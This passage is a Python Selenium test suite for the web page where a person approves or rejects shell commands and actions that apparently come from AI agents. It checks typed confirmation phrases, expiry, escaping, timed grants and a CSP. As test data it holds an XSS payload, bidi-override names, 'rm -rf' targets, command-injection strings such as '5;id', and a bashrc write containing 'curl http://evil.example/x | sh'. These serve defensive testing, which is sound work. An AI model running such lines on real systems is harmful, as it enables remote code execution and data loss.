    print(f"webui: 'Approved' shown at {said[0][0]} ms, card removed at {watch['removedAt']} ms: {watch}")
    shot(b, "webui-approved")
    finish(b, webui)


def card_message(card) -> str:
    return card.find_element("css selector", "p.message").get_attribute("textContent")


def test_a_request_decided_elsewhere_or_expired_stays_saying_so(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    """A card whose request stops waiting without a decision on this page stays, greyed,
    saying how it ended (from the audit trail): rejected or approved elsewhere (here: the
    CLI), or expired; a half-typed phrase stays where it was; Dismiss removes the card."""
    phone = open_webui(browsers, webui, "gone-phone")
    desk = open_webui(browsers, webui, "gone-desktop", size=DESKTOP)
    victim = tmp_path / "victim"
    victim.mkdir()
    rejected = service.invoke_async(f"rm -rf {victim}")
    card = wait_card(phone, str(victim))
    rid = card_text(card, ".rid")
    card_button(card, ":scope > .buttons > .btn-approve").click()
    wait_shown(phone, card, "input.phrase", "the phrase field").send_keys("approve dang")
    wait_card(desk, str(victim))  # both pages show it waiting before it is decided

    r = service.cli("protocol", "reject", rid)
    assert r.returncode == 0, r.stderr
    assert rejected.result().get("isError") is True
    for b in (phone, desk):
        c = wait_card(b, str(victim))
        b.until(lambda c=c: card_message(c).startswith("Rejected elsewhere"), APPEAR_TIMEOUT, "the card says so")
    time.sleep(2 * 2.0 + 0.5)  # two more polls: the card is still there, still saying so
    assert not card_gone(phone, str(victim))
    assert "gone" in card.get_attribute("class") and card_message(card).startswith("Rejected elsewhere")
    assert card_button(card, "input.phrase").get_attribute("value") == "approve dang"
    assert not card_button(card, "input.phrase").is_enabled()
    assert phone.find("#approvals-count").text == ""
    shot(phone, "webui-gone-rejected-phone")
    shot(desk, "webui-gone-rejected-desktop")

    marker = tmp_path / "approved-elsewhere"
    approved = service.invoke_async(f"touch {marker}")
    card2 = wait_card(phone, str(marker))
    r = service.cli("protocol", "approve", card_text(card2, ".rid"), "--yes")
    assert r.returncode == 0, r.stderr
    assert approved.result().get("isError") is not True and marker.exists()
    phone.until(lambda: card_message(card2).startswith("Approved elsewhere"), APPEAR_TIMEOUT, "approved elsewhere")

    # Expired: a request nobody decides within approval_timeout_secs (applies at once).
    assert service.cli("config", "set", "approval_timeout_secs", "3").returncode == 0
    try:
        late = tmp_path / "late"
        expired = service.invoke_async(f"touch {late}")
        card3 = wait_card(phone, str(late))
        assert expired.result(timeout=20).get("isError") is True
        phone.until(lambda: card_message(card3).startswith("Expired"), APPEAR_TIMEOUT, "expired")
        assert not late.exists()
    finally:
        assert service.cli("config", "set", "approval_timeout_secs", "60").returncode == 0
    assert not phone.horizontal_overflow() and not desk.horizontal_overflow()
    shot(phone, "webui-gone-phone")

    # Dismiss removes it; nothing was sent for any of them.
    dismiss = card_button(card, ".dismiss")
    assert dismiss.get_attribute("aria-label") == f"Dismiss request {rid}"
    dismiss.click()
    phone.until(lambda: card_gone(phone, str(victim)), 2, "the dismissed card leaves")
    assert not card_gone(phone, str(marker))
    assert not [e for e in webui.snapshot() if e.kind in ("approve", "approve-phrase", "reject") and rid in e.command]
    for b in (phone, desk):
        finish(b, webui)


def test_a_long_action_is_shown_whole_before_it_is_approved(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    """What is approved is on the page: a 60-line action is not cut or boxed (its end
    visible in the card without scrolling a box), and the approve step opens under it."""
    b = open_webui(browsers, webui, "long-action")
    tag = f"end-of-long-{time.monotonic_ns()}"
    lines = "\n".join(f"echo line {i}" for i in range(60))
    call = service.invoke_async(f"{lines}\necho {tag} > {tmp_path / 'x'}")
    card = wait_card(b, tag)
    box = b.js(
        "const p = arguments[0].querySelector('pre.action'); return [p.scrollHeight, p.clientHeight];", card
    )
    assert box[0] <= box[1] + 1, f"the action scrolls inside its box: {box}"
    assert "line 59" in card_text(card, "pre.action")
    card_button(card, ":scope > .buttons > .btn-reject").click()
    wait_shown(b, card, ".confirm .btn-reject", "the reject confirm step").click()
    assert call.result().get("isError") is True
    b.until(lambda: card_gone(b, tag), GONE_TIMEOUT, "the rejected card leaves the page")
    finish(b, webui)


# ---------------------------------------------------------------------------------------
# 3. A dangerous request: its phrase, then rejected
# ---------------------------------------------------------------------------------------


def test_a_high_request_is_approved_only_after_a_step_naming_it(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    """One approve flow: a `high` request (a root-free `rm`) is approved only from a
    second step that names it, with its whole action on the page; the first tap sends
    nothing."""
    b = open_webui(browsers, webui, "high")
    victim = tmp_path / "high-victim"
    victim.write_text("x")
    call = service.invoke_async(f"rm {victim}")
    card = wait_card(b, str(victim))
    rid = card_text(card, ".rid")
    assert card_text(card, ".risk") == "high"
    before = len(webui.snapshot())
    tap(b, card_button(card, ":scope > .buttons > .btn-approve"))
    go = wait_shown(b, card, ".confirm .btn-approve", "the approve step")
    step = card_text(card, ".confirm p")
    assert step.startswith(f"Approve request {rid} from ") and "Its action runs as you" in step, step
    assert card_button(card, "details.argv pre.action").is_displayed(), "the argv is not on the page"
    time.sleep(0.5)
    assert not [e for e in webui.snapshot()[before:] if e.kind and e.kind.startswith("approve")]
    assert victim.exists()
    shot(b, "webui-high-confirm")
    tap(b, go)
    entry = webui.wait_entry("approve", f" protocol approve {rid} --yes ", since=before)
    assert entry.errno == 0, entry
    assert call.result().get("isError") is not True
    assert not victim.exists()
    finish(b, webui)


def test_a_dangerous_request_needs_its_phrase_and_is_rejected(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    b = open_webui(browsers, webui, "dangerous")
    victim = tmp_path / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "sub" / "file").write_text("keep me")
    call = service.invoke_async(f"rm -rf {victim}")
    card = wait_card(b, str(victim))
    rid = card_text(card, ".rid")
    assert card_text(card, ".risk") == "dangerous"
    assert "risk-dangerous" in card.get_attribute("class")
    expected = next(p for p in service.pending() if p["id"] == rid)["phrase"]
    assert expected == f"approve dangerous {rid}", expected

    card_button(card, ":scope > .buttons > .btn-approve").click()
    field_ = wait_shown(b, card, "input.phrase", "the phrase field")
    assert card_button(card, ".phrase-shown code").text == expected
    go = card_button(card, ".confirm .btn-approve")
    assert not go.is_enabled(), "Approve is enabled before the phrase is typed"

    # Near misses keep it disabled; a click on it does nothing.
    for wrong in ("approve dangerous nope", expected[:-1], expected.upper(), f"approve critical {rid}"):
        field_.clear()
        field_.send_keys(wrong)
        assert not go.is_enabled(), f"Approve enabled for {wrong!r}"
    b.js("arguments[0].click();", go)
    field_.clear()
    field_.send_keys(expected)
    b.until(lambda: go.is_enabled(), 2, "Approve enabled once the exact phrase is typed")
    assert not b.horizontal_overflow()
    shot(b, "webui-dangerous-phrase")
    time.sleep(0.3)
    assert not [e for e in webui.snapshot() if e.kind and e.kind.startswith("approve") and rid in e.command]

    # Change of mind: cancel, then reject through its own confirm step.
    card_button(card, ".confirm .btn-quiet").click()
    b.until(lambda: not card_button(card, ".confirm").is_displayed(), 2, "the confirm step closed")
    before = len(webui.snapshot())
    card_button(card, ":scope > .buttons > .btn-reject").click()
    reject = wait_shown(b, card, ".confirm .btn-reject", "the reject confirm step")
    assert reject.text == "Reject now"
    assert victim.is_dir()
    reject.click()
    entry = webui.wait_entry("reject", f" protocol reject {rid} ", since=before)
    assert entry.errno == 0, entry
    result = call.result()
    assert result.get("isError") is True, result
    assert "reject" in json.dumps(result).lower(), result
    assert victim.is_dir() and (victim / "sub" / "file").read_text() == "keep me", "a rejected command ran"
    b.until(lambda: card_gone(b, str(victim)), GONE_TIMEOUT, "the rejected card leaves the page")
    assert not [e for e in webui.snapshot() if e.kind and e.kind.startswith("approve") and rid in e.command], (
        "an approve command was sent for the dangerous request"
    )
    finish(b, webui)


def test_a_request_says_who_asks_as_whom_and_the_command_as_sent(
    service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path
):
    """Who is asking is the card's first line (nl2sh's words, `shown.who`), then "runs as
    root/shell/you" (`shown.as`), then the command exactly as the caller sent it (a single
    quote inside quotes as a shell prints it, '\\'' with one backslash); the exact argv is a
    tap away (closed <details>). A command holding a character that cannot be shown is
    escaped whole and the card says so. Phone and desktop."""
    phone = open_webui(browsers, webui, "who-phone")
    desk = open_webui(browsers, webui, "who-desktop", size=DESKTOP)
    target = tmp_path / "quoted"
    command = f"printf '%s\\n' 'it'\\''s' > {target}"
    call = service.invoke_async(command)
    card = wait_card(phone, str(target))
    rid = card_text(card, ".rid")
    (p,) = [p for p in service.pending() if p["id"] == rid]
    assert p["shown"]["command"] == command and p["shown"]["command_escaped"] is False, p["shown"]
    for b in (phone, desk):
        c = wait_card(b, str(target))
        first = b.js("return arguments[0].firstElementChild;", c)
        assert first.get_attribute("class") == "who", first.get_attribute("outerHTML")
        assert first.get_attribute("textContent") == p["shown"]["who"]
        assert "over MCP (HTTP)" in p["shown"]["who"], p["shown"]["who"]
        assert card_text(c, ".meta").startswith("runs " + p["shown"]["as"]), card_text(c, ".meta")
        assert p["shown"]["as"] in ("as root", "as shell", "as you"), p["shown"]["as"]
        shown = card_text(c, "pre.command")
        assert shown == command and "'\\''" in shown, shown
        assert not c.find_elements("css selector", ".escaped-note")
        # The argv: a tap away, then exactly nl2sh's.
        argv = card_button(c, "details.argv pre.action")
        assert not argv.is_displayed()
        card_button(c, "details.argv summary").click()
        b.until(lambda argv=argv: argv.is_displayed(), 2, "the argv opens")
        assert argv.get_attribute("textContent") == p["shown"]["action"]
        assert not b.horizontal_overflow()
    shot(phone, "webui-who-phone")
    shot(desk, "webui-who-desktop")

    tag = f"bidi-{time.monotonic_ns()}"
    hostile = service.invoke_async(f"echo '\u202e{tag}' > {tmp_path / 'bidi'}")
    card2 = wait_card(phone, tag)
    cmd = card_text(card2, "pre.command")
    assert "\\u{202e}" + tag in cmd and "\u202e" not in cmd, cmd
    note = card_button(card2, ".escaped-note")
    assert note.is_displayed() and note.text == "Shown escaped: \\\\ is one backslash.", note.text
    shot(phone, "webui-who-escaped")

    # The approve step names who asks and as whom before anything is sent.
    card_button(card, ":scope > .buttons > .btn-approve").click()
    ask = wait_shown(phone, card, ".confirm", "the approve step")
    assert f"Approve request {rid} from {p['shown']['who']}? Its action runs {p['shown']['as']} as soon" in ask.text, (
        ask.text
    )
    card_button(card, ".confirm .btn-quiet").click()
    # An approve step opens the argv too: the whole action is on the page before it counts.
    argv2 = card_button(card2, "details.argv pre.action")
    assert not argv2.is_displayed()
    card_button(card2, ":scope > .buttons > .btn-approve").click()
    wait_shown(phone, card2, ".confirm", "the approve step")
    assert argv2.is_displayed()
    card_button(card2, ".confirm .btn-quiet").click()
    for c, done in ((card, call), (card2, hostile)):
        # Back up to the card (selenium's own scroll would leave it under the sticky bar).
        phone.js("arguments[0].scrollIntoView({block: 'center'});", c)
        card_button(c, ":scope > .buttons > .btn-reject").click()
        wait_shown(phone, c, ".confirm .btn-reject", "the reject confirm step").click()
        assert done.result().get("isError") is True
    assert not target.exists()
    for b in (phone, desk):
        finish(b, webui)


# ---------------------------------------------------------------------------------------
# 4. Hostile text
# ---------------------------------------------------------------------------------------


def test_hostile_action_text_shows_as_text(service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path):
    b = open_webui(browsers, webui, "hostile")
    tag = f"hostile-{time.monotonic_ns()}"
    payload = "<img src=x onerror=window.__pwned=1>"
    command = f"echo '{payload}' '\u202e{tag}' 'cache\ufe0f' > {tmp_path / 'out'}"
    call = service.invoke_async(command)
    card = wait_card(b, tag)
    rid = card_text(card, ".rid")
    action = b.js("return arguments[0].querySelector('pre.action').textContent;", card)
    # Shown literally, the bidi override escaped the way the CLI shows it.
    assert payload in action, action
    assert "\\u{202e}" + tag in action, action
    # A variation selector on a letter draws nothing: named, as nl2sh names it (the page
    # shows `shown` from the CLI's JSON; it has no escaping of its own).
    assert "cache\\u{fe0f}" in action, action
    body = b.js("return document.body.textContent;")
    assert "\u202e" not in body, "a raw U+202E reached the page"
    assert "\ufe0f" not in body, "a raw U+FE0F reached the page"
    assert b.js("return document.querySelectorAll('img').length;") == 0
    assert b.js("return document.querySelectorAll('#approvals pre.action *').length;") == 0
    assert b.js("return typeof window.__pwned;") == "undefined"
    assert not b.horizontal_overflow(), "the hostile card makes the page scroll sideways"
    shot(b, "webui-hostile")

    card_button(card, ":scope > .buttons > .btn-reject").click()
    wait_shown(b, card, ".confirm .btn-reject", "the reject confirm step").click()
    entry = webui.wait_entry("reject", f" protocol reject {rid} ")
    assert entry.errno == 0, entry
    assert call.result().get("isError") is True
    assert not (tmp_path / "out").exists()
    b.until(lambda: card_gone(b, tag), GONE_TIMEOUT, "the rejected card leaves the page")
    assert b.js("return typeof window.__pwned;") == "undefined"
    finish(b, webui)


def test_a_hostile_client_name_shows_as_text(service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path):
    """Who is asking comes from the caller (a 2026-07-28 request's `_meta` clientInfo):
    markup stays text, and a bidi override, an invisible character or a control character
    is named as nl2sh names it, never drawn."""
    b = open_webui(browsers, webui, "hostile-who")
    name = "Codex <img src=x onerror=window.__pwned=1>\u202eexe.lmth\u200b\x1b[2J"
    target = tmp_path / "who-hostile"
    call = McpCall(
        service,
        f"touch {target}",
        meta={
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientCapabilities": {},
            "io.modelcontextprotocol/clientInfo": {"name": name, "version": "1.0\u202e"},
        },
        headers={"MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call", "Mcp-Name": "nl2sh_invoke"},
    )
    card = wait_card(b, str(target))
    rid = card_text(card, ".rid")
    (p,) = [p for p in service.pending() if p["id"] == rid]
    who = card_text(card, ".who")
    assert who == p["shown"]["who"], (who, p["shown"])
    assert "<img src=x onerror=window.__pwned=1>" in who and "\\u{202e}exe.lmth\\u{200b}\\x1b[2J" in who, who
    assert not set(who) & {"\u202e", "\u200b", "\x1b"}, who
    assert b.js("return document.querySelectorAll('#approvals img').length;") == 0
    assert b.js("return typeof window.__pwned;") == "undefined"
    assert not b.horizontal_overflow()
    shot(b, "webui-hostile-who")
    tap(b, card_button(card, ":scope > .buttons > .btn-reject"))
    go = wait_shown(b, card, ".confirm .btn-reject", "the reject confirm step")
    # The question names who asks: its long unbroken text wraps; the phone does not zoom out.
    assert b.js("return [innerWidth, visualViewport.scale];") == [390, 1], "the confirm step widened the page"
    assert "Codex <img src=x onerror" in card_text(card, ".confirm p")
    shot(b, "webui-hostile-who-confirm")
    tap(b, go)
    entry = webui.wait_entry("reject", f" protocol reject {rid} ")
    assert entry.errno == 0, entry
    assert call.result().get("isError") is True
    assert not [q for q in service.pending() if q["id"] == rid]
    assert not target.exists()
    b.until(lambda: card_gone(b, str(target)), GONE_TIMEOUT, "the rejected card leaves the page")
    finish(b, webui)


def test_a_write_shows_what_it_writes(service: WebService, webui: WebUI, browsers: Browsers, tmp_path: Path):
    """The root manager's WebUI shows an fs.write's content under its action: its size and
    SHA-256, then every line, escaped by nl2sh (the page escapes nothing itself)."""
    b = open_webui(browsers, webui, "write-content")
    target = tmp_path / "bashrc"
    content = "curl http://evil.example/x | sh\nok\r\x1b[2Kfine\n"
    call = service.invoke_tool_async("fs.write", {"path": str(target), "content": content, "mode": "append"})
    card = wait_card(b, str(target))
    lines = b.js("return arguments[0].querySelector('pre.data-lines').textContent;", card)
    assert lines == "curl http://evil.example/x | sh\nok\\r\\x1b[2Kfine", lines
    sha = hashlib.sha256(content.encode()).hexdigest()
    assert f"content: {len(content)} bytes, 2 lines, sha256 {sha}" in card.text, card.text
    assert not b.horizontal_overflow(), "the content makes the page scroll sideways"
    shot(b, "webui-write-content")
    card_button(card, ":scope > .buttons > .btn-reject").click()
    wait_shown(b, card, ".confirm .btn-reject", "the reject confirm step").click()
    assert call.result().get("isError") is True
    assert not target.exists()
    b.until(lambda: card_gone(b, str(target)), GONE_TIMEOUT, "the rejected card leaves the page")
    finish(b, webui)


# ---------------------------------------------------------------------------------------
# 5. Open Web console
# ---------------------------------------------------------------------------------------


def test_open_web_console_hands_a_login_page_to_xdg_open(
    service: WebService, webui: WebUI, browsers: Browsers, xdg_open: XdgOpen
):
    b = open_webui(browsers, webui, "console")
    opened_before = xdg_open.args.read_text().splitlines() if xdg_open.args.exists() else []
    before = len(webui.snapshot())
    b.wait_clickable("#console").click()
    entry = webui.wait_entry("console", " web login --open ", since=before)
    assert entry.errno == 0, entry
    msg = b.until(
        lambda: (lambda n: n if n.is_displayed() and "message-ok" in n.get_attribute("class") else None)(
            b.find("#service-message")
        ),
        5,
        "the page says the console opens",
    )
    assert "opens in your browser" in msg.text, msg.text

    opened = xdg_open.args.read_text().splitlines()[len(opened_before) :]
    assert len(opened) == 1, opened
    page_path = Path(opened[0])
    assert page_path.is_absolute() and page_path.is_file(), opened
    assert oct(page_path.stat().st_mode & 0o777) == oct(0o600)
    page = page_path.read_text()
    assert "#login=" in page, page
    link = re.search(r"url=(http://[^\"'\s>]+)", page).group(1)
    assert link.startswith(f"{service.origin}/#login="), link
    code = link.split("#login=", 1)[1]
    assert len(code) >= 16, link

    # The page never shows (or received) the code.
    text = dom_text(b)
    assert code not in text and "#login=" not in text
    assert code not in entry.stdout + entry.stderr and "#login=" not in entry.stdout + entry.stderr
    shot(b, "webui-console-opened")
    finish(b, webui)


# ---------------------------------------------------------------------------------------
# 6. Timed UI grants
# ---------------------------------------------------------------------------------------


def ui_grant_rows(b: Browser) -> list[dict]:
    """The grants the page lists: app, text, and the seconds its countdown shows."""
    return b.js(
        """return [...document.querySelectorAll('#ui-grants li.ui-grant')].map(li => ({
             app: li.dataset.app, text: li.textContent,
             seconds: Number(li.querySelector('.time-left').dataset.seconds)}));"""
    )


def test_a_tap_approved_with_ui_minutes_lets_the_next_run_until_revoked(
    xdg_open: XdgOpen, browsers: Browsers, tmp_path: Path
):
    """A tap in an ordinary app waits; the card offers "Approve + allow UI in APP for N
    min"; after its confirm step the page runs `protocol approve ID --yes --ui-minutes N`.
    The grant is listed (app, origin, time left, actions covered) on the phone and the
    desktop; the next tap runs unasked and is counted; Revoke asks first, then runs
    `protocol ui-grants --revoke ID`, and the third tap asks again."""
    standins = chat_standins()
    env = {"PATH": f"{standins}:{os.environ.get('PATH', '')}"}
    (tmp_path / "svc").mkdir()
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    try:
        with web_service(tmp_path / "svc", "service", env=env) as svc:
            w = WebUI(svc, xdg_open.args.parent, runtime, tmp_path / "commands.jsonl")
            try:
                phone = open_webui(browsers, w, "ui-grant-phone")
                desk = open_webui(browsers, w, "ui-grant-desktop", size=DESKTOP)
                for b in (phone, desk):
                    b.until(
                        lambda b=b: b.find("#ui-grants-summary").text.startswith("None."),
                        APPEAR_TIMEOUT,
                        "no grants yet",
                    )
                    assert not ui_grant_rows(b)

                first = svc.invoke_tool_async("android.tap", {"x": 100, "y": 300})
                card = wait_card(phone, "tap 100 300")
                rid = card_text(card, ".rid")
                (pending,) = [p for p in svc.pending() if p["id"] == rid]
                assert pending["ui_app"] == "com.example.chat", pending
                offer = card_button(card, ".ui-grant-offer")
                assert "com.example.chat" in offer.text and "mcp_http" in offer.text, offer.text
                button = card_button(card, "button.approve-ui")
                assert button.text == "Approve + allow UI in com.example.chat for 10 min…", button.text
                from selenium.webdriver.support.ui import Select

                # Minutes the page does not offer (a tampered <select>) never reach a command.
                before = len(w.snapshot())
                for forged in ("31", "5; id", "0"):
                    phone.js(
                        """const s = arguments[0].querySelector('select.ui-minutes');
                           const o = document.createElement('option');
                           o.value = arguments[1]; o.textContent = 'forged';
                           s.appendChild(o); s.value = arguments[1];""",
                        card,
                        forged,
                    )
                    button.click()
                    assert not card_button(card, ".confirm").is_displayed(), forged
                time.sleep(0.3)
                assert not [e for e in w.snapshot()[before:] if e.kind is None or e.kind.startswith("approve")]
                Select(card_button(card, "select.ui-minutes")).select_by_value("5")
                assert button.text == "Approve + allow UI in com.example.chat for 5 min…", button.text

                # The first click only opens the confirm step, naming the minutes.
                before = len(w.snapshot())
                button.click()
                go = wait_shown(phone, card, ".confirm .btn-approve", "the UI grant's confirm step")
                assert go.text == "Approve + allow UI now"
                confirm_text = card_button(card, ".confirm").text
                assert rid in confirm_text and "for 5 min" in confirm_text and "com.example.chat" in confirm_text, (
                    confirm_text
                )
                desk_card = wait_card(desk, "tap 100 300")
                assert desk_card.find_element("css selector", "button.approve-ui").is_displayed()
                assert not phone.horizontal_overflow() and not desk.horizontal_overflow()
                inside = """const card = arguments[0].getBoundingClientRect();
                            return [...arguments[0].querySelectorAll('.ui-grant-offer *, .confirm *')]
                              .every(e => e.getBoundingClientRect().right <= card.right + 0.5);"""
                assert phone.js(inside, card), "the UI grant offer is wider than its card"
                shot(phone, "webui-ui-grant-offer-phone")
                shot(desk, "webui-ui-grant-offer-desktop")
                time.sleep(0.3)  # a moment for a (wrong) early command to show up
                assert not [e for e in w.snapshot()[before:] if e.kind and e.kind.startswith("approve")]
                assert not first.done()

                go.click()
                entry = w.wait_entry("approve-ui", f" protocol approve {rid} --yes --ui-minutes 5 ", since=before)
                assert entry.errno == 0, entry
                assert first.result().get("isError") is not True, first.result()
                said = "UI actions in com.example.chat run unasked for 5 min"
                phone.until(lambda: said in card.text, 3, "the card says so")

                grants = json.loads(svc.cli("protocol", "ui-grants", "--json").stdout)
                (grant,) = grants
                for b in (phone, desk):
                    (row,) = b.until(lambda b=b: ui_grant_rows(b), APPEAR_TIMEOUT, "the grant is listed")
                    assert row["app"] == "com.example.chat", row
                    assert "mcp_http" in row["text"] and "5 min given" in row["text"], row
                    assert grant["shown"]["id"] in row["text"], row
                    assert 240 < row["seconds"] <= 300, row
                    assert "0 actions covered" in row["text"], row

                # Covered: the next tap in the app runs without asking, and is counted.
                second = svc.invoke_tool_async("android.tap", {"x": 120, "y": 320})
                assert second.result().get("isError") is not True, second.result()
                assert not [p for p in svc.pending() if "tap 120 320" in p["action"]]
                for b in (phone, desk):
                    b.until(
                        lambda b=b: "1 action covered" in (ui_grant_rows(b) or [{"text": ""}])[0]["text"],
                        APPEAR_TIMEOUT,
                        "the grant counts the tap",
                    )
                    assert not b.horizontal_overflow()
                shot(phone, "webui-ui-grant-phone")
                shot(desk, "webui-ui-grant-desktop")

                # Revoke asks first; Cancel sends nothing.
                before = len(w.snapshot())
                phone.find("#ui-grants button.revoke-ui-grant").click()
                ask = phone.until(
                    lambda: (lambda n: n if n.is_displayed() else None)(phone.find("#ui-grants .confirm")),
                    3,
                    "the revoke confirm step",
                )
                assert grant["shown"]["id"] in ask.text and "com.example.chat" in ask.text, ask.text
                shot(phone, "webui-ui-grant-revoke-confirm")
                phone.find("#ui-grants .confirm .btn-quiet").click()
                phone.until(lambda: not phone.find("#ui-grants .confirm").is_displayed(), 2, "the step closed")
                time.sleep(0.3)
                assert not [e for e in w.snapshot()[before:] if e.kind == "ui-revoke"]
                assert len(json.loads(svc.cli("protocol", "ui-grants", "--json").stdout)) == 1

                phone.find("#ui-grants button.revoke-ui-grant").click()
                phone.until(
                    lambda: (lambda n: n if n.is_displayed() else None)(phone.find("#ui-grants .revoke-now")),
                    3,
                    "the revoke confirm step again",
                ).click()
                entry = w.wait_entry("ui-revoke", f" protocol ui-grants --revoke {grant['id']} ", since=before)
                assert entry.errno == 0, entry
                for b in (phone, desk):
                    b.until(lambda b=b: not ui_grant_rows(b), APPEAR_TIMEOUT, "the revoked grant leaves the list")
                assert "ask you again" in phone.find("#ui-grants-message").text
                assert json.loads(svc.cli("protocol", "ui-grants", "--json").stdout) == []

                # Revoked: the third tap asks again; rejected from the page.
                third = svc.invoke_tool_async("android.tap", {"x": 140, "y": 340})
                card = wait_card(phone, "tap 140 340")
                assert not third.done()
                # Scrolled down at the grants, the person goes back up to the approvals (at
                # the top: selenium's own scroll would leave the button under the sticky bar).
                phone.js("window.scrollTo(0, 0);")
                card_button(card, ":scope > .buttons > .btn-reject").click()
                wait_shown(phone, card, ".confirm .btn-reject", "the reject confirm step").click()
                assert third.result().get("isError") is True

                for b in (phone, desk):
                    finish(b, w)
                kinds = {e.kind for e in w.snapshot()}
                assert {"approve-ui", "ui-grants", "ui-revoke"} <= kinds, kinds
                failed = [e for e in w.snapshot() if e.errno != 0]
                assert not failed, "\n".join(f"{e.errno} {e.command!r}: {e.stderr}" for e in failed)
            finally:
                w.close()
    finally:
        shutil.rmtree(standins.parent)


# ---------------------------------------------------------------------------------------
# 7. The CSP, and what the page sent over the whole run
# ---------------------------------------------------------------------------------------


def test_the_csp_is_served_and_blocks_fetch(webui: WebUI, browsers: Browsers):
    """The CSP is on every file (header, from config.json, and the page's meta), and it
    stops a fetch() to the page's own origin: the bridge first asked for (POST /exec via
    fetch) cannot work in this page, hence the JSONP one."""
    for name in ("/", "/app.js", "/style.css", "/config.json"):
        conn = http.client.HTTPConnection("127.0.0.1", int(webui.origin.rsplit(":", 1)[1]), timeout=5)
        conn.request("GET", name)
        r = conn.getresponse()
        r.read()
        conn.close()
        assert r.status == 200 and r.getheader("Content-Security-Policy") == webui.csp, name
    assert "connect-src 'none'" in webui.csp
    assert "connect-src 'none'" in (WEBROOT / "index.html").read_text()

    # The bridge's own gate (checked here without running anything): only app.js's shapes.
    ok = PAGE_PREFIX + " protocol approve ab12 --yes --phrase 'approve dangerous ab12' </dev/null"
    assert webui.classify(ok) == "approve-phrase"
    assert webui.classify(PAGE_PREFIX + " protocol approve ab12 --yes --ui-minutes 15 </dev/null") == "approve-ui"
    assert webui.classify(PAGE_PREFIX + " protocol ui-grants --revoke ab12 </dev/null") == "ui-revoke"
    for bad in (
        "id",
        PAGE_PREFIX + " service status --json </dev/null; id",
        PAGE_PREFIX + " protocol approve ab12 --yes --phrase 'approve dangerous zz99' </dev/null",
        PAGE_PREFIX + " protocol approve AB;id --yes </dev/null",
        PAGE_PREFIX + " protocol approve ab12 --yes --ui-minutes 31 </dev/null",
        PAGE_PREFIX + " protocol approve ab12 --yes --ui-minutes 5;id </dev/null",
        PAGE_PREFIX + " protocol approve ab12 --yes --phrase 'approve dangerous ab12' --ui-minutes 5 </dev/null",
        PAGE_PREFIX + " protocol ui-grants --revoke 'ab12' </dev/null",
        PAGE_PREFIX + " protocol ui-grants --revoke ab12;id </dev/null",
        " " + PAGE_PREFIX + " service status --json </dev/null",
    ):
        assert webui.classify(bad) is None, bad

    b = open_webui(browsers, webui, "csp")
    b.driver.set_script_timeout(10)
    outcome = b.driver.execute_async_script(
        """
        const done = arguments[arguments.length - 1];
        fetch('/exec', {method: 'POST', body: arguments[0] + ' service status --json </dev/null'})
          .then(r => done('answered ' + r.status), e => done('blocked: ' + e));""",
        PAGE_PREFIX,
    )
    assert outcome.startswith("blocked"), outcome
    b.until(lambda: b.js("return window.__browserTest.csp.length;") > 0, 3, "the violation is reported")
    assert not [r for r in webui.requests if r.startswith("POST")], webui.requests
    problems = b.console_problems()
    # Chrome's lines for the blocked fetch, and the recorder's violation; nothing else.
    assert problems and all("/exec" in p and ("Content Security Policy" in p or "connect-src" in p) for p in problems), (
        problems
    )
    webui.assert_only_page_commands()


def test_every_command_the_page_sent_had_app_js_shape(service: WebService, webui: WebUI, browsers: Browsers):
    """Over the whole module: every command matched app.js's list, ran, and none was refused."""
    b = open_webui(browsers, webui, "last")
    b.assert_clean_console()
    entries = webui.snapshot()
    assert entries, "the page sent nothing"
    webui.assert_only_page_commands()
    kinds = {e.kind for e in entries}
    assert {"status", "approvals", "ui-grants"} <= kinds, kinds
    # A command that failed (besides a decision on a gone request) would mean the page and
    # the CLI disagree.
    failed = [e for e in entries if e.errno != 0]
    assert not failed, "\n".join(f"{e.errno} {e.command!r}: {e.stderr}" for e in failed)
    assert service.proc.poll() is None, service.stderr_text()
